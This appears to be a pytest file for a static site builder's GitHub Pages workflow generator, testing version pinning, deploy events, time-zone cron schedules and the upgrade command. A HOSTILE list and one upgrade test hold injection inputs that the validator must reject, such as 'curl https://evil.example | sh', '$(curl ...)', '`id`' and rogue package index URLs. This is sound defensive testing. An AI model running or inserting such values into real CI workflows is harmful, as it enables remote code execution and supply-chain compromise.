"""The GitHub Pages workflow ``init --github-pages`` writes and ``upgrade`` rewrites (README,
"Publishing on GitHub Pages"): what it installs, which events deploy, when the daily run starts."""

from __future__ import annotations

import datetime as dt
import subprocess
import tomllib
import zoneinfo
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

import site_builder
from site_builder.collect import is_future
from site_builder.model import Document
from site_builder.pipeline import BuildResult
from site_builder.workflow import DISTRIBUTION, WORKFLOW, daily_runs, pinned, render, tool_source_problem
from tests.actions import event, jobs_started, load
from tests.gitrepo import isolate

REPO = Path(site_builder.__file__).resolve().parents[1]
Cli = Callable[[Sequence[str]], tuple[int, str, str]]
LA = "America/Los_Angeles"
YEAR = 2027  # DST in Los Angeles: 14 March to 7 November


@pytest.fixture(autouse=True)
def isolated_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate(monkeypatch, tmp_path / "home")


def new_site(run_cli: Cli, target: Path, *flags: str) -> dict[str, Any]:
    code, _, err = run_cli(["init", str(target), "--github-pages", *flags])
    assert code == 0, err
    return load((target / WORKFLOW).read_text(encoding="utf-8"))


def crons(flow: dict[str, Any]) -> list[str]:
    return [entry["cron"] for entry in flow["on"]["schedule"]]


# --- what it installs ------------------------------------------------------------------------------


def test_it_installs_exactly_this_release(tmp_path: Path, run_cli: Cli) -> None:
    flow = new_site(run_cli, tmp_path / "site")
    assert (
        flow["env"]
        == {"SITE_BUILDER": f"{DISTRIBUTION}=={site_builder.__version__}"}
        == {"SITE_BUILDER": pinned()}
    )
    for job in ("check", "build"):
        runs = [s["run"] for s in flow["jobs"][job]["steps"] if "run" in s]
        assert runs[0] == 'python -m pip install "$SITE_BUILDER"'
        setup = next(
            s for s in flow["jobs"][job]["steps"] if s.get("uses", "").startswith("actions/setup-python")
        )
        # pip's cache is keyed on the workflow file, which holds the pinned version
        assert setup["with"]["cache"] == "pip"
        assert setup["with"]["cache-dependency-path"] == WORKFLOW
    assert "pip install site-builder\n" not in (tmp_path / "site" / WORKFLOW).read_text()


def test_the_distribution_name_is_the_one_this_repository_builds() -> None:
    project = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert project["name"] == DISTRIBUTION
    assert project["scripts"] == {"site-builder": "site_builder.cli:run"}
    assert project["dynamic"] == ["version"]  # read from site_builder.__version__, the pin's version


@pytest.mark.parametrize(
    "source",
    [
        "git+https://github.com/northmoor/site-builder@v0.2.0",
        "git+https://github.com/northmoor/site-builder@4f0c2b1e9d",
        "https://example.org/releases/site_builder-0.2.0-py3-none-any.whl",
        "site-builder==0.2.0rc1",
        "acme-site-builder[search]==1.0",
    ],
)
def test_a_tool_source_can_be_a_tag_a_wheel_or_another_release(
    tmp_path: Path, run_cli: Cli, source: str
) -> None:
    flow = new_site(run_cli, tmp_path / "site", "--tool-source", source)
    assert flow["env"]["SITE_BUILDER"] == source


HOSTILE = [
    "site-builder",  # not pinned: whoever publishes the next version runs in every build
    "site-builder>=0.1",
    "site-builder==0.1 --extra-index-url https://evil.example/simple",
    "--index-url=https://evil.example/simple",
    "-e.",
    "x; curl https://evil.example | sh",
    "$(curl https://evil.example)",
    "${{ secrets.GITHUB_TOKEN }}",
    "`id`",
    'site-builder==0.1"\n  EVIL: "1',
    "site-builder==0.1\nrun: id",
    "http://example.org/site_builder-0.2.0-py3-none-any.whl",
    "git+http://github.com/o/site-builder@v1",
    "git://github.com/o/site-builder@v1",
    "git+ssh://git@github.com/o/site-builder@v1",
    "git@github.com:o/site-builder.git",
    "git+https://github.com/o/site-builder",  # no tag: the default branch, whatever it is today
    "https://example.org/site_builder-0.2.0.tar.gz",
    "https://example.org/download?file=x",
    "file:///home/me/site_builder-0.2.0-py3-none-any.whl",
    "./dist/site_builder-0.2.0-py3-none-any.whl",
    "/tmp/site_builder-0.2.0-py3-none-any.whl",
    "~/site_builder.whl",
    "",
    "site-builder==",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_a_tool_source_that_is_not_one_build_or_not_safe_is_a_usage_error(
    tmp_path: Path, run_cli: Cli, source: str
) -> None:
    assert tool_source_problem(source)
    code, _, err = run_cli(["init", str(tmp_path / "site"), "--github-pages", "--tool-source", source])
    assert code == 2 and "--tool-source" in err and "Traceback" not in err
    assert not (tmp_path / "site").exists()


# --- which events deploy ---------------------------------------------------------------------------


def test_a_push_to_the_branch_init_made_deploys(tmp_path: Path, run_cli: Cli) -> None:
    flow = new_site(run_cli, tmp_path / "site")
    head = subprocess.run(
        ["git", "symbolic-ref", "--short", "HEAD"],
        cwd=tmp_path / "site",
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    assert head == "main"
    # GitHub makes the first branch pushed to an empty repository its default branch.
    assert jobs_started(flow, event("push", f"refs/heads/{head}", default_branch=head)) == ["build", "deploy"]


@pytest.mark.parametrize(
    ("name", "ref", "default", "jobs"),
    [
        ("push", "refs/heads/main", "main", ["build", "deploy"]),
        ("push", "refs/heads/master", "master", ["build", "deploy"]),  # whatever the default is called
        ("push", "refs/heads/trunk", "trunk", ["build", "deploy"]),
        ("push", "refs/heads/Main", "main", ["build", "deploy"]),  # GitHub compares names ignoring case
        ("push", "refs/heads/new-post", "main", []),
        ("push", "refs/heads/main", "master", []),
        ("push", "refs/tags/v1", "main", []),
        ("pull_request", "refs/pull/7/merge", "main", ["check"]),
        ("pull_request", "refs/pull/8/merge", "master", ["check"]),
        ("schedule", "refs/heads/main", "main", ["build", "deploy"]),
        ("schedule", "refs/heads/master", "master", ["build", "deploy"]),
        ("workflow_dispatch", "refs/heads/main", "main", ["build", "deploy"]),
        ("workflow_dispatch", "refs/heads/new-post", "main", []),
    ],
)
def test_the_default_branch_deploys_and_a_pull_request_is_only_checked(
    tmp_path: Path, run_cli: Cli, name: str, ref: str, default: str, jobs: list[str]
) -> None:
    flow = new_site(run_cli, tmp_path / "site")
    assert jobs_started(flow, event(name, ref, default_branch=default)) == jobs


def test_the_deploy_job_has_what_github_pages_needs(tmp_path: Path, run_cli: Cli) -> None:
    flow = new_site(run_cli, tmp_path / "site")
    build = flow["jobs"]["build"]["steps"]
    uses = [s.get("uses") for s in build]
    assert uses.index("actions/configure-pages@v6") < uses.index("actions/upload-pages-artifact@v5")
    step = next(s for s in build if s.get("name") == "Build")
    assert step["env"] == {"BASE_URL": "${{ steps.pages.outputs.base_url }}"}
    assert step["run"] == 'site-builder build --base-url "$BASE_URL/"'
    assert build[-1]["with"] == {"path": "output"}
    deploy = flow["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["steps"] == [{"id": "deployment", "uses": "actions/deploy-pages@v5"}]
    assert deploy["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert deploy["environment"]["name"] == "github-pages"
    assert deploy["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    assert flow["permissions"] == {"contents": "read"}
    assert flow["on"]["push"] is None and "workflow_dispatch" in flow["on"]


# --- when the daily run starts ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("zone", "expected"),
    [
        ("UTC", ["15 0 * * *"]),
        (LA, ["15 7 * * *", "15 8 * * *"]),  # 00:15 PDT (UTC-7) and 00:15 PST (UTC-8)
        ("Europe/London", ["15 0 * * *", "15 23 * * *"]),
        ("Asia/Kolkata", ["45 18 * * *"]),  # UTC+05:30, no summer time
        ("Asia/Kathmandu", ["30 18 * * *"]),  # UTC+05:45
        ("Australia/Lord_Howe", ["15 13 * * *", "45 13 * * *"]),  # UTC+11 in summer, +10:30 in winter
        ("Pacific/Kiritimati", ["15 10 * * *"]),  # UTC+14: the run is the day before, in UTC
    ],
)
def test_the_schedule_is_a_quarter_past_midnight_at_each_offset_of_the_zone(
    tmp_path: Path, run_cli: Cli, zone: str, expected: list[str]
) -> None:
    assert [run.cron for run in daily_runs(zone, YEAR)] == expected
    flow = new_site(run_cli, tmp_path / "site", "--timezone", zone)
    assert crons(flow) == [run.cron for run in daily_runs(zone, dt.date.today().year)]
    assert f'timezone = "{zone}"' in (tmp_path / "site" / "site.toml").read_text()


def first_run_after(moment: dt.datetime, cron_lines: list[str]) -> dt.datetime:
    """When GitHub next starts a workflow with these ``M H * * *`` lines (UTC), at or after ``moment``."""
    times = [(int(c.split()[1]), int(c.split()[0])) for c in cron_lines]
    day = moment.astimezone(dt.UTC).date()
    starts = [
        dt.datetime.combine(day + dt.timedelta(days=d), dt.time(h, m), dt.UTC)
        for h, m in times
        for d in (-1, 0, 1)
    ]
    return min(s for s in starts if s >= moment)


def local_midnights(zone: zoneinfo.ZoneInfo, year: int) -> list[tuple[dt.date, dt.datetime]]:
    day, found = dt.date(year, 1, 1), []
    while day.year == year:
        found.append((day, dt.datetime.combine(day, dt.time(0), zone)))
        day += dt.timedelta(days=1)
    return found


def dated(day: dt.date, zone: zoneinfo.ZoneInfo, make_doc: Callable[..., Document]) -> Document:
    return make_doc("weeknotes/due.md", date=day.isoformat(), tz=zone)


def test_a_post_dated_today_goes_live_at_the_first_run_after_local_midnight_all_year(
    tmp_path: Path, run_cli: Cli, make_doc: Callable[..., Document]
) -> None:
    """Every day of a year in Los Angeles, summer time or not: the first scheduled run after local
    midnight comes within the quarter hour, and the build's own rule publishes that day's post."""
    schedule = crons(new_site(run_cli, tmp_path / "site", "--timezone", LA))
    zone = zoneinfo.ZoneInfo(LA)
    for day, midnight in local_midnights(zone, YEAR):
        run = first_run_after(midnight, schedule)
        assert run - midnight == dt.timedelta(minutes=15), (day, run)
        assert not is_future(dated(day, zone, make_doc), run.astimezone(zone)), day
        assert is_future(dated(day + dt.timedelta(days=1), zone, make_doc), run.astimezone(zone)), day
    # The schedule it replaces, 00:15 UTC, is 16:15 or 17:15 the day before there: a day late.
    late = [first_run_after(m, ["15 0 * * *"]) - m for _, m in local_midnights(zone, YEAR)]
    assert min(late) > dt.timedelta(hours=16)


@pytest.mark.parametrize(
    "day",
    [
        dt.date(YEAR, 1, 15),
        dt.date(YEAR, 3, 13),
        dt.date(YEAR, 3, 14),  # summer time starts at 02:00
        dt.date(YEAR, 3, 15),
        dt.date(YEAR, 7, 1),
        dt.date(YEAR, 11, 7),  # summer time ends at 02:00
        dt.date(YEAR, 11, 8),
        dt.date(YEAR, 12, 31),
    ],
)
def test_a_build_at_that_run_publishes_the_post(
    tmp_path: Path, run_cli: Cli, build: Callable[..., BuildResult], day: dt.date
) -> None:
    site = tmp_path / "site"
    schedule = crons(new_site(run_cli, site, "--timezone", LA))
    (site / "content" / "weeknotes" / "first-weeknote.md").unlink()
    (site / "content" / "weeknotes" / "due.md").write_text(
        f"---\ntitle: Due today\ndate: {day.isoformat()}\nteam: our-team\n---\nOut on its day.\n",
        encoding="utf-8",
    )
    midnight = dt.datetime.combine(day, dt.time(0), zoneinfo.ZoneInfo(LA))
    run = first_run_after(midnight, schedule)
    page = site / "output" / "weeknotes" / f"{day:%Y}" / f"{day:%m}" / "due" / "index.html"
    result = build(site, now=run, search=False)
    assert not result.diagnostics.errors and page.is_file(), (run, result.left_out)
    # one minute before that run, the post is not out yet (it is still the day before there)
    result = build(site, now=midnight - dt.timedelta(minutes=1), search=False)
    assert not page.exists() and result.left_out.future == 1


# --- ``upgrade`` -----------------------------------------------------------------------------------


def test_upgrade_pins_this_version_and_keeps_the_teams_edits(tmp_path: Path, run_cli: Cli) -> None:
    site = tmp_path / "site"
    new_site(run_cli, site)
    path = site / WORKFLOW
    text = path.read_text().replace(pinned(), "site-builder==0.0.9")
    text = text.replace("  workflow_dispatch:\n", "  workflow_dispatch:  # our own note\n")
    path.write_text(text)
    code, out, err = run_cli(["upgrade", str(site)])
    assert code == 0, err
    assert f"installs {pinned()} (was site-builder==0.0.9)" in out
    after = path.read_text()
    assert after == text.replace("site-builder==0.0.9", pinned())  # nothing else moved
    code, out, _ = run_cli(["upgrade", str(site)])
    assert code == 0 and "nothing to change" in out and path.read_text() == after


def test_upgrade_moves_the_daily_run_with_the_sites_time_zone(tmp_path: Path, run_cli: Cli) -> None:
    site = tmp_path / "site"
    new_site(run_cli, site)
    toml = site / "site.toml"
    toml.write_text(toml.read_text().replace('timezone = "UTC"', f'timezone = "{LA}"'))
    code, out, err = run_cli(
        ["upgrade", str(site), "--tool-source", "git+https://github.com/o/site-builder@v0.3.0"]
    )
    assert code == 0, err
    flow = load((site / WORKFLOW).read_text())
    assert crons(flow) == ["15 7 * * *", "15 8 * * *"]
    assert flow["env"]["SITE_BUILDER"] == "git+https://github.com/o/site-builder@v0.3.0"
    assert "was 15 0 * * *" in out and LA in out
    assert (site / WORKFLOW).read_text() == render(
        "git+https://github.com/o/site-builder@v0.3.0", LA, dt.date.today().year
    )


def test_upgrade_keeps_windows_line_endings(tmp_path: Path, run_cli: Cli) -> None:
    site = tmp_path / "site"
    new_site(run_cli, site)
    path = site / WORKFLOW
    path.write_bytes(
        path.read_bytes().replace(pinned().encode(), b"site-builder==0.0.9").replace(b"\n", b"\r\n")
    )
    assert run_cli(["upgrade", str(site)])[0] == 0
    data = path.read_bytes()
    assert pinned().encode() in data and data.count(b"\r\n") == data.count(b"\n")


def test_upgrade_refuses_a_workflow_it_cannot_read_the_same_way(tmp_path: Path, run_cli: Cli) -> None:
    site = tmp_path / "site"
    new_site(run_cli, site)
    path = site / WORKFLOW
    text = path.read_text()
    path.write_text(text.replace('  SITE_BUILDER: "', '  TOOL: "'))
    code, _, err = run_cli(["upgrade", str(site)])
    assert (
        code == 1 and f"{WORKFLOW}: error:" in err and "[upgrade/workflow]" in err and "SITE_BUILDER" in err
    )
    path.write_text(text + 'env:\n  SITE_BUILDER: "x==1"\n')
    code, _, err = run_cli(["upgrade", str(site)])
    assert code == 1 and "more than one" in err and f"{WORKFLOW}:" in err
    assert path.read_text() == text + 'env:\n  SITE_BUILDER: "x==1"\n'


def test_upgrade_without_a_workflow_says_so(tmp_path: Path, run_cli: Cli) -> None:
    code, _, _ = run_cli(["init", str(tmp_path / "site")])
    assert code == 0
    code, _, err = run_cli(["upgrade", str(tmp_path / "site")])
    assert code == 1 and "[upgrade/no-workflow]" in err and "init --github-pages" in err
    assert not (tmp_path / "site" / WORKFLOW).exists()


@pytest.mark.parametrize("source", ["site-builder", "$(id)", "--index-url=https://evil.example/simple"])
def test_upgrade_refuses_a_hostile_tool_source(tmp_path: Path, run_cli: Cli, source: str) -> None:
    site = tmp_path / "site"
    new_site(run_cli, site)
    before = (site / WORKFLOW).read_text()
    code, _, err = run_cli(["upgrade", str(site), f"--tool-source={source}"])
    assert code == 2 and "--tool-source" in err
    assert (site / WORKFLOW).read_text() == before


# --- this repository's own workflows ---------------------------------------------------------------


def test_this_repository_runs_the_same_workflow_installing_itself() -> None:
    timezone = tomllib.loads((REPO / "site.toml").read_text(encoding="utf-8"))["timezone"]
    ours = (REPO / ".github" / "workflows" / "pages.yml").read_text(encoding="utf-8")
    assert ours == render(".", timezone, dt.date.today().year)


def test_the_release_workflow_publishes_on_a_version_tag_with_no_stored_token() -> None:
    text = (REPO / ".github" / "workflows" / "release.yml").read_text(encoding="utf-8")
    flow = load(text)
    assert flow["on"] == {"push": {"tags": ["v*"]}}
    assert flow["permissions"] == {"contents": "read"}
    jobs = flow["jobs"]
    build_runs = "\n".join(s.get("run", "") for s in jobs["build"]["steps"])
    assert "python -m build" in build_runs
    assert ".ci/run" in "\n".join(s.get("run", "") for s in jobs["test"]["steps"])
    publish = jobs["publish"]
    assert publish["needs"] == ["build", "test"]
    assert publish["permissions"] == {"id-token": "write"}  # trusted publishing
    assert publish["environment"]["name"]
    assert publish["steps"][-1] == {"uses": "pypa/gh-action-pypi-publish@release/v1"}
    assert "secrets." not in text and "password" not in text
